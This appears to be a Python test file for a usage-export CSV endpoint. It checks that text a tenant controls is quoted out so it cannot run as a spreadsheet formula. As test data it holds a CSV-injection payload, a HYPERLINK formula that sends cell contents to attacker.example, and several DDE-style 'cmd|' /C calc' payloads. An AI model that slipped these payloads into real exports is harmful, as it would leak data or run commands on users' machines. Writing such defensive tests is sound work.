"""GET /api/v1/usage/export.csv: text a tenant controls never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime

import httpx
import pytest

from keyplane.context import AppContext
from keyplane.orgs.bootstrap import BootstrapResult
from keyplane.usage.csv_cells import csv_cell
from tests.factories import bearer, make_key
from tests.usage.usage_data import event_for, key_of, write_usage

AT = datetime(2026, 3, 10, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'


async def _export(client: httpx.AsyncClient, org: BootstrapResult) -> list[dict[str, str]]:
    response = await client.get("/api/v1/usage/export.csv", headers=bearer(org.management_key))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_formula_text_in_usage_cells_is_quoted_out(
    client: httpx.AsyncClient, context: AppContext, org: BootstrapResult
) -> None:
    key = await key_of(context, await make_key(context, org_id=org.org_id, user_id=org.user_id))
    event = dataclasses.replace(
        event_for(key, at=AT, model=FORMULA, provider="+cmd|' /C calc'!A0"),
        request_id="@SUM(1+1)*cmd|' /C calc'!A0",
        error="-2+3+cmd|' /C calc'!A0",
        status_code=502,
    )
    await write_usage(context, [event])
    [row] = await _export(client, org)
    assert row["model"] == "'" + FORMULA
    assert row["provider"] == "'+cmd|' /C calc'!A0"
    assert row["request_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["error"] == "'-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["\t=1+1", "\r=1+1"], ids=["tab", "carriage-return"])
async def test_a_formula_behind_a_tab_or_carriage_return_is_quoted_out(
    client: httpx.AsyncClient, context: AppContext, org: BootstrapResult, start: str
) -> None:
    key = await key_of(context, await make_key(context, org_id=org.org_id, user_id=org.user_id))
    await write_usage(context, [event_for(key, at=AT, model=start)])
    [row] = await _export(client, org)
    assert row["model"] == "'" + start


async def test_numbers_stay_numbers_and_plain_text_is_untouched(
    client: httpx.AsyncClient, context: AppContext, org: BootstrapResult
) -> None:
    key = await key_of(context, await make_key(context, org_id=org.org_id, user_id=org.user_id))
    await write_usage(context, [event_for(key, at=AT, cost_usd=0.25, model="openai/gpt-4o")])
    [row] = await _export(client, org)
    assert (row["model"], row["cost"], row["prompt_tokens"], row["is_byok"]) == (
        "openai/gpt-4o",
        "0.25",
        "10",
        "False",
    )


def test_only_text_cells_are_escaped() -> None:
    assert [csv_cell(v) for v in (-1.5, -3, True, None, "-3", "a=b")] == [-1.5, -3, True, "", "'-3", "a=b"]
